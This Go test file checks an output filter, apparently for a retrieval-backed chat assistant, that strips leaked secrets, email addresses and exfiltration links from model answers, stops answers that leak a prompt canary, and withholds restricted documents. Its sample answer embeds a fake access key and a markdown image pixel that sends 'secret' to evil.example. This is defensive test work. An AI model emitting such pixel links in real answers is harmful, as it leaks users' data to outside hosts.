package test

import (
	"bufio"
	"bytes"
	"encoding/json"
	"io"
	"math/rand/v2"
	"net/http"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/doorward/doorward/api"
	"github.com/doorward/doorward/api/auth"
	"github.com/doorward/doorward/policy"
)

// TestAnswers sends a leaking answer back through the filter, whole and in
// random pieces: the same comes out, and none of what had to stay in.
func TestAnswers(t *testing.T) {
	dir := t.TempDir()
	write(t, filepath.Join(dir, "doorward.yaml"), []byte(leakConfig))
	write(t, filepath.Join(dir, "documents", "crane.txt"), []byte("The harbour crane is repaired on Tuesdays."))
	must(t, dir, "keys", "init")
	must(t, dir, "ingest")
	b := register(t, dir, "chat")
	var stop func()
	b.url, stop = serve(t, dir)
	defer stop()
	ann := policy.Subject{ID: "ann", Groups: []string{"staff"}}
	r := b.retrieve(t, ann, api.RetrieveRequest{Question: "when is the crane repaired?", Format: "messages"})
	secret := "AK" + "IA" + "Z7Q2MK4LTX5VW3RP"
	answer := "It is repaired on Tuesdays [" + r.Passages[0].Citation + "]. The key is " + secret + ", write to bob@example.com. ![pixel](https://evil.example/?q=secret) Done."

	var whole api.OutputResponse
	status, body := b.as(t, ann, "/v1/output", api.OutputRequest{ContextID: r.ContextID, Text: answer})
	if err := json.Unmarshal(body, &whole); status != http.StatusOK || err != nil {
		t.Fatalf("%d %s", status, body)
	}
	for _, must := range []string{"on Tuesdays", "Done."} {
		if !strings.Contains(whole.Text, must) {
			t.Errorf("%q is missing in %q", must, whole.Text)
		}
	}
	for _, never := range []string{secret, "bob@example.com", "evil.example"} {
		if strings.Contains(whole.Text, never) {
			t.Errorf("%q was let out", never)
		}
	}
	rng := rand.New(rand.NewPCG(1, 2))
	for range 5 {
		text, end := b.stream(t, ann, r.ContextID, pieces(rng, answer))
		if text != whole.Text || end["action"] != whole.Action {
			t.Errorf("streamed %q (%v), whole %q (%s)", text, end["action"], whole.Text, whole.Action)
		}
	}

	// The mark in the prompt ends the answer.
	mark := regexp.MustCompile(`\(reference (\S+), not`).FindStringSubmatch(r.Messages[1].Content)
	if mark == nil {
		t.Fatal("the prompt holds no mark")
	}
	text, end := b.stream(t, ann, r.ContextID, []string{"My context says ", mark[1], " and more"})
	if strings.Contains(text, mark[1]) || strings.Contains(text, "and more") || end["action"] != "hold" {
		t.Errorf("after the mark: %q, %v", text, end)
	}

	// Without a ticket, or with somebody else's, anything found stops the answer.
	for _, context := range []string{"", "AAAA", r.ContextID} {
		status, body := b.as(t, policy.Subject{ID: "eve"}, "/v1/output", api.OutputRequest{ContextID: context, Text: "Write to bob@example.com now"})
		var strict api.OutputResponse
		if err := json.Unmarshal(body, &strict); status != http.StatusOK || err != nil || strict.Action != "hold" || strings.Contains(strict.Text, "now") {
			t.Errorf("context %.6q: %d %s", context, status, body)
		}
	}
	must(t, dir, "audit", "verify")
}

func pieces(rng *rand.Rand, text string) (out []string) {
	for len(text) > 0 {
		n := min(1+rng.IntN(9), len(text))
		out = append(out, text[:n])
		text = text[n:]
	}
	return out
}

// stream sends deltas and reads the filtered ones back.
func (b *backend) stream(t *testing.T, s policy.Subject, contextID string, deltas []string) (string, map[string]any) {
	t.Helper()
	s.Tenant, s.Authn.Backend = b.tenant, b.id
	token, err := auth.Mint(b.assertion, "doorward", s, time.Now(), time.Minute)
	if err != nil {
		t.Fatal(err)
	}
	in, out := io.Pipe()
	go func() {
		e := json.NewEncoder(out)
		for i, d := range deltas {
			line := map[string]string{"delta": d}
			if i == 0 {
				line["context_id"] = contextID
			}
			if e.Encode(line) != nil {
				break
			}
		}
		out.Close()
	}()
	r, err := http.NewRequest("POST", b.url+"/v1/output/stream", in)
	if err != nil {
		t.Fatal(err)
	}
	r.Header.Set("Authorization", "Bearer "+b.key)
	r.Header.Set(auth.Header, token)
	r.Header.Set("Content-Type", "application/x-ndjson")
	resp, err := b.client.Do(r)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.ProtoMajor == 1 && !resp.Close {
		t.Error("the connection would be used again, with what a stopped stream left unread in it")
	}
	var text bytes.Buffer
	for lines := bufio.NewScanner(resp.Body); lines.Scan(); {
		var l struct {
			Delta string         `json:"delta"`
			End   map[string]any `json:"end"`
		}
		if err := json.Unmarshal(lines.Bytes(), &l); err != nil {
			t.Fatalf("%d %s", resp.StatusCode, lines.Bytes())
		}
		text.WriteString(l.Delta)
		if l.End != nil {
			return text.String(), l.End
		}
	}
	t.Fatal("the stream had no end event")
	return "", nil
}

// TestProtectedText: an answer that repeats a document to somebody who may not
// read it is withheld, though nothing of the document was retrieved; to somebody
// who may, it is not.
func TestProtectedText(t *testing.T) {
	dir := t.TempDir()
	config := strings.Replace(leakConfig, "mapping: [{set: {groups: [staff]}}]", "mapping: [{match: 'board/**', set: {groups: [board]}}, {match: '*', set: {groups: [staff]}}]", 1)
	write(t, filepath.Join(dir, "doorward.yaml"), []byte(config))
	plan := "The company will close its northern yard in March and move forty people to the southern harbour before the summer begins"
	write(t, filepath.Join(dir, "documents", "board", "plan.txt"), []byte(plan+"."))
	write(t, filepath.Join(dir, "documents", "crane.txt"), []byte("The harbour crane is repaired on Tuesdays."))
	must(t, dir, "keys", "init")
	must(t, dir, "ingest")
	b := register(t, dir, "chat")
	var stop func()
	b.url, stop = serve(t, dir)
	defer stop()
	for who, tc := range map[string]struct {
		groups []string
		shown  bool
	}{"ann": {[]string{"staff"}, false}, "bea": {[]string{"board"}, true}} {
		s := policy.Subject{ID: who, Groups: tc.groups}
		r := b.retrieve(t, s, api.RetrieveRequest{Question: "what is new at the harbour?"})
		_, body := b.as(t, s, "/v1/output", api.OutputRequest{ContextID: r.ContextID, Text: "I remember: " + plan + ". That is all."})
		var out api.OutputResponse
		if err := json.Unmarshal(body, &out); err != nil {
			t.Fatal(err)
		}
		if strings.Contains(out.Text, "forty people to the southern harbour") != tc.shown {
			t.Errorf("%s was shown %q", who, out.Text)
		}
	}
}

// TestStreamAccountOutlivesItsCaller: an answer whose caller goes away in the
// middle still gets its closing audit entry.
func TestStreamAccountOutlivesItsCaller(t *testing.T) {
	dir := t.TempDir()
	write(t, filepath.Join(dir, "doorward.yaml"), []byte(leakConfig))
	write(t, filepath.Join(dir, "documents", "crane.txt"), []byte("The harbour crane is repaired on Tuesdays."))
	must(t, dir, "keys", "init")
	must(t, dir, "ingest")
	b := register(t, dir, "chat")
	var stop func()
	b.url, stop = serve(t, dir)
	s := policy.Subject{ID: "ann", Tenant: b.tenant, Groups: []string{"staff"}, Authn: policy.Authn{Backend: b.id}}
	token, err := auth.Mint(b.assertion, "doorward", s, time.Now(), time.Minute)
	if err != nil {
		t.Fatal(err)
	}
	in, out := io.Pipe()
	r, err := http.NewRequest("POST", b.url+"/v1/output/stream", in)
	if err != nil {
		t.Fatal(err)
	}
	r.Header.Set("Authorization", "Bearer "+b.key)
	r.Header.Set(auth.Header, token)
	r.Header.Set("Content-Type", "application/x-ndjson")
	go func() {
		io.WriteString(out, "{\"delta\":\"Half an answer, and more of it than anybody would hold back. \"}\n")
		time.Sleep(300 * time.Millisecond)
		out.CloseWithError(io.ErrUnexpectedEOF)
	}()
	if resp, err := b.client.Do(r); err == nil {
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
	}
	time.Sleep(300 * time.Millisecond)
	stop()
	said := must(t, dir, "audit", "show", "--json")
	if n := strings.Count(said, `"event":"output"`); n != 2 {
		t.Errorf("%d audit entries for a broken answer, want its beginning and its end:\n%s", n, said)
	}
}
